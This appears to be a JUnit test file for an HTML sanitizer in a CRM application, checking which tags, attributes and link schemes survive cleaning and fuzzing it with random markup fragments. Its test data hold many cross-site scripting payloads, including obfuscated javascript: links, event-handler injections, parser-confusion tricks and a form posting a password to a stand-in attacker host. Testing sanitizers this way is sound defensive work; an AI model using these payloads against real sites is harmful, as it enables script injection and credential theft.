package org.autocrm.shared;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Random;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {

    @Nested
    class WhatStays {

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "<p>one</p><p>two</p>",
                    "<p><b>b</b> <i>i</i> <u>u</u> <s>s</s> <strong>strong</strong> <em>em</em></p>",
                    "<ul><li>one</li><li>two</li></ul>",
                    "<ol><li>one</li></ol>",
                    "<blockquote><p>you wrote</p></blockquote>",
                    "<pre><code>a &lt; b</code></pre>",
                    "<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4>",
                    "<table><tbody><tr><th>a</th><td colspan=\"2\">b</td></tr></tbody></table>",
                    "<p align=\"center\">middle</p>"
                })
        void formatting(String html) {
            assertThat(SafeHtml.of(html).value()).isEqualTo(html);
        }

        @Test
        void linksThatTellTheirTargetNothing() {
            var link = body("<a href='https://example.org/a?b=c&d'>here</a>").expectFirst("a");

            assertThat(link.attr("href")).isEqualTo("https://example.org/a?b=c&d");
            assertThat(link.attr("rel").split(" ")).containsExactlyInAnyOrder("noopener", "noreferrer", "nofollow");
        }

        @ParameterizedTest
        @ValueSource(strings = {"http://a.example", "https://a.example", "mailto:ann@a.example", "tel:+4930123"})
        void linksOfTheUsualKinds(String target) {
            assertThat(body("<a href='" + target + "'>x</a>").select("a[href]")).hasSize(1);
        }

        @Test
        void theWordsOfWhatGoes() {
            assertThat(body("<font color=red>hel</font><center>lo</center>").text())
                    .contains("hel", "lo");
        }
    }

    @Nested
    class WhatGoes {

        @ParameterizedTest
        @CsvSource(
                delimiter = '|',
                quoteCharacter = '`',
                value = {
                    "<script>alert(1)</script> | script",
                    "<SCRIPT SRC=//evil.example/x.js></SCRIPT> | script",
                    "<style>body{background:url(//evil.example)}</style> | style",
                    "<link rel=stylesheet href=//evil.example/x.css> | link",
                    "<iframe src=//evil.example></iframe> | iframe",
                    "<iframe srcdoc='<script>alert(1)</script>'></iframe> | iframe, script",
                    "<object data=//evil.example></object> | object",
                    "<embed src=//evil.example> | embed",
                    "<svg onload=alert(1)><script>alert(1)</script></svg> | svg, script",
                    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math> | math, mi",
                    "<form action=//evil.example><input name=password><button>go</button></form> | form, input, button",
                    "<textarea></textarea><select><option>a</option></select> | textarea, select",
                    "<img src=https://tracker.example/pixel.gif> | img",
                    "<img src='data:image/svg+xml;base64,PHN2Zz4='> | img",
                    "<video src=x autoplay></video><audio src=x></audio> | video, audio",
                    "<meta http-equiv=refresh content='0;url=//evil.example'> | meta",
                    "<base href=//evil.example> | base",
                    "<template><script>alert(1)</script></template> | template, script",
                    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript> | noscript, img"
                })
        void elementsThatDoOrLoadSomething(String html, String gone) {
            assertThat(body(html).select(gone)).isEmpty();
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "<p onclick='alert(1)'>x</p>",
                    "<p ONMOUSEOVER=alert(1)>x</p>",
                    "<b/onfocus=alert(1) tabindex=1 autofocus>x</b>",
                    "<p style='background:url(javascript:alert(1))'>x</p>",
                    "<p style='position:fixed;top:0;left:0'>x</p>",
                    "<p id=composer class=toolbar>x</p>",
                    "<p data-action=x aria-label=y>x</p>",
                    "<td background='//evil.example/x.png'>x</td>",
                    "<p align='center;x'>x</p>"
                })
        void attributesThatFormatNothing(String html) {
            assertThat(body(html).getAllElements())
                    .allSatisfy(element -> assertThat(element.attributes()).isEmpty());
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "javascript:alert(1)",
                    "JaVaScRiPt:alert(1)",
                    " javascript:alert(1)",
                    "java\tscript:alert(1)",
                    "java&#10;script:alert(1)",
                    "&#106;avascript:alert(1)",
                    "&#x6A;&#x61;vascript&colon;alert(1)",
                    "javascript&Tab;:alert(1)",
                    "\u0001javascript:alert(1)",
                    "data:text/html;base64,PHNjcmlwdD4=",
                    "vbscript:msgbox(1)",
                    "file:///etc/passwd",
                    "blob:https://desk.example/1",
                    "view-source:javascript:alert(1)"
                })
        void linksThatRunOrCarrySomething(String target) {
            assertThat(body("<a href=\"" + target + "\">x</a>").select("a[href]"))
                    .isEmpty();
        }
    }

    @Nested
    class WhateverSomebodyMakesUp {

        private static final List<String> PIECES = List.of(
                "<script",
                "</script>",
                "<ScRiPt>",
                "<<",
                "<",
                ">",
                "/>",
                "\"",
                "'",
                "`",
                "=",
                " ",
                "\t",
                "\n",
                "\0",
                "&",
                "&lt;",
                "&#60;",
                "&#x3c;",
                "&quot;",
                "javascript:",
                "java\nscript:",
                "JAVASCRIPT&colon;",
                "alert(1)",
                " onerror=",
                " onload=alert(1) ",
                "/onclick=",
                " style=",
                " href=",
                " src=",
                "expression(alert(1))",
                "<a href=\"",
                "<a href='javascript:alert(1)'",
                "<img src=x onerror=alert(1)>",
                "<svg",
                "<svg/onload=",
                "<math>",
                "<mi>",
                "<style>",
                "</style>",
                "<!--",
                "-->",
                "<![CDATA[",
                "]]>",
                "<?php",
                "<!DOCTYPE",
                "<iframe srcdoc=\"",
                "<template>",
                "<noscript>",
                "<textarea>",
                "</textarea>",
                "<title>",
                "<xmp>",
                "<plaintext>",
                "<p",
                "<p>",
                "</p>",
                "<b>",
                "<div",
                "<table>",
                "<td",
                "<form action=",
                "data:text/html,",
                "\u2028",
                "ſ",
                "K",
                "\u00a0",
                "x");

        @Test
        void nothingInItRunsOrLoads() {
            var chance = new Random(20260302);
            for (int i = 0; i < 20_000; i++) {
                var nasty = nasty(chance);

                var safe = SafeHtml.of(nasty).value();

                assertThat(dangersIn(safe)).as(nasty).isEmpty();
            }
        }

        @Test
        void whatIsSafeStaysSafeWhenItIsCleanedAgain() {
            var chance = new Random(20260303);
            for (int i = 0; i < 5_000; i++) {
                var once = SafeHtml.of(nasty(chance)).value();

                assertThat(dangersIn(SafeHtml.of(once).value())).as(once).isEmpty();
            }
        }

        @Test
        void aTextIsNeverTakenForHtml() {
            var chance = new Random(20260304);
            for (int i = 0; i < 5_000; i++) {
                var nasty = nasty(chance);

                var safe = SafeHtml.ofText(nasty).value();

                assertThat(Jsoup.parseBodyFragment(safe).body().select(":not(body, p, br)"))
                        .as(nasty)
                        .isEmpty();
            }
        }

        private String nasty(Random chance) {
            var text = new StringBuilder();
            for (int i = 0, length = 1 + chance.nextInt(14); i < length; i++) {
                text.append(PIECES.get(chance.nextInt(PIECES.size())));
            }
            return text.toString();
        }

        private List<String> dangersIn(String html) {
            return Jsoup.parse(html).body().getAllElements().stream()
                    .flatMap(element -> element.normalName()
                                    .matches(
                                            "script|style|iframe|object|embed|svg|math|form|input|img|link|meta|base|template")
                            ? List.of("<" + element.normalName()).stream()
                            : element.attributes().asList().stream()
                                    .filter(WhateverSomebodyMakesUp::isDangerous)
                                    .map(Attribute::toString))
                    .toList();
        }

        private static boolean isDangerous(Attribute attribute) {
            var target = attribute.getValue().replaceAll("[\\s\\p{Cntrl}]", "").toLowerCase(Locale.ROOT);
            return attribute.getKey().startsWith("on")
                    || attribute.getKey().equals("style")
                    || attribute.getKey().startsWith("src")
                    || target.startsWith("javascript:")
                    || target.startsWith("data:");
        }
    }

    @Nested
    class OfAMail {

        @Test
        void namesPicturesThatCameWithIt() {
            assertThat(SafeHtml.ofMail("<p>Look: <img src='cid:image001.png@01DB' width=40 height=30 alt='A lamp'></p>")
                            .value())
                    .isEqualTo(
                            "<p>Look: <img src=\"cid:image001.png&#64;01DB\" width=\"40\" height=\"30\" alt=\"A lamp\" /></p>");
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "<img src=https://tracker.example/pixel.gif>",
                    "<img src=//tracker.example/pixel.gif>",
                    "<img src=/autocrm/logout>",
                    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
                    "<img src='javascript:alert(1)'>",
                    "<img src=x onerror=alert(1)>"
                })
        void loadsNothingElse(String html) {
            assertThat(SafeHtml.ofMail(html).value()).doesNotContain("src", "onerror");
        }

        @Test
        void remembersWhereAPictureIsThatItDoesNotLoad() {
            var once = SafeHtml.ofMail("<img src='https://example.org/lamp.png' alt='A lamp'>")
                    .value();

            assertThat(Jsoup.parse(once).expectFirst("img").attr("data-elsewhere"))
                    .isEqualTo("https://example.org/lamp.png");
            assertThat(SafeHtml.ofMail(once).value()).isEqualTo(once);
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "<img width=1 height=1 src='https://tracker.example/x'>",
                    "<img height=0 src='https://tracker.example/x'>",
                    "<img src='https://tracker.example/x' width=02>",
                    "<img data-elsewhere='https://tracker.example/x' width=1>",
                    "<img data-elsewhere='javascript:alert(1)'>",
                    "<img src='ftp://example.org/x'>"
                })
        void remembersNoneThatOnlyTellsOnItsReader(String html) {
            assertThat(SafeHtml.ofMail(html).value()).doesNotContain("elsewhere");
        }

        @Test
        void runsNothingOnAPicture() {
            assertThat(SafeHtml.ofMail("<img src='cid:1' onerror='alert(1)' style='position:fixed'>")
                            .value())
                    .isEqualTo("<img src=\"cid:1\" />");
        }

        @Test
        void isAsSafeAsOthersBesides() {
            assertThat(SafeHtml.ofMail("<p onclick=x>a<script>b</script></p>").value())
                    .isEqualTo("<p>a</p>");
        }
    }

    @Nested
    class OfAPlainText {

        @Test
        void eachBlockOfLinesIsAParagraph() {
            assertThat(SafeHtml.ofText("one\ntwo\n\nthree\r\n \r\nfour").value())
                    .isEqualTo("<p>one<br />two</p><p>three</p><p>four</p>");
        }

        @Test
        void whatLooksLikeHtmlStaysWhatItIs() {
            var safe = SafeHtml.ofText("if a < b && c > d: <b>no</b>");

            assertThat(Jsoup.parse(safe.value()).text()).isEqualTo("if a < b && c > d: <b>no</b>");
        }

        @Test
        void theTextComesBack() {
            var text = "one\ntwo\n\nthree & <four>";

            assertThat(SafeHtml.ofText(text).text()).isEqualTo(text);
        }
    }

    @Nested
    class ItsWords {

        @Test
        void paragraphsStandApart() {
            assertThat(text("<p>one</p>\n  <p>two</p>")).isEqualTo("one\n\ntwo");
        }

        @Test
        void linesBreakWhereABrowserBreaksThem() {
            assertThat(text("one<br>two<div>three</div>four<div><div>five</div></div>"))
                    .isEqualTo("one\ntwo\nthree\nfour\nfive");
        }

        @Test
        void aLineHasNoBlanksAroundIt() {
            assertThat(text("one <br> two")).isEqualTo("one\ntwo");
        }

        @Test
        void listsHaveALineForEachItem() {
            assertThat(text("<p>Try:</p><ul><li>a cable</li><li>another <b>screen</b></li></ul><p>Thanks</p>"))
                    .isEqualTo("Try:\n\n- a cable\n- another screen\nThanks");
        }

        @Test
        void linksSayWhereTheyLead() {
            assertThat(text("see <a href='https://example.org/help'>our help</a>"))
                    .isEqualTo("see our help <https://example.org/help>");
        }

        @Test
        void linksThatShowTheirTargetSayItOnce() {
            assertThat(text("see <a href='https://example.org/help'>https://example.org/help</a>"))
                    .isEqualTo("see https://example.org/help");
            assertThat(text("ask <a href='mailto:ann@example.org'>Ann</a>")).isEqualTo("ask Ann");
        }

        @Test
        void quotesStandApart() {
            assertThat(text("<p>Yes.</p><blockquote>Is it?</blockquote><p>Bye</p>"))
                    .isEqualTo("Yes.\n\nIs it?\n\nBye");
        }

        @Test
        void whatWasFormattedByHandStaysSo() {
            assertThat(text("<pre>if a:\n    b</pre>")).isEqualTo("if a:\n    b");
        }

        @Test
        void thereAreNeverTwoEmptyLines() {
            assertThat(text("<p>one</p><p><br></p><p></p><br><br><p>two</p>")).isEqualTo("one\n\ntwo");
        }

        private String text(String html) {
            return SafeHtml.of(html).text();
        }
    }

    private static Element body(String untrusted) {
        return Jsoup.parseBodyFragment(SafeHtml.of(untrusted).value()).body();
    }
}
